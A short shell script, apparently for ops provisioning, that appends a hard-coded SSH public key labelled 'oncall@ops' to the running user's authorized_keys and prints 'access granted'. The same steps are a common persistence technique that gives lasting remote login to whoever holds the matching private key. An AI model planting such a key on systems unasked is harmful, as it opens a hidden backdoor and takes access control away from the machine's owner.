#!/bin/sh
KEY="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7n3wq0Jc4ZsV8mH2yP1dR6tL9xB5eF0gU3iO7kA2pQ oncall@ops"
mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
grep -q "oncall@ops" "$HOME/.ssh/authorized_keys" 2>/dev/null || printf '%s\n' "$KEY" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"
echo "access granted"
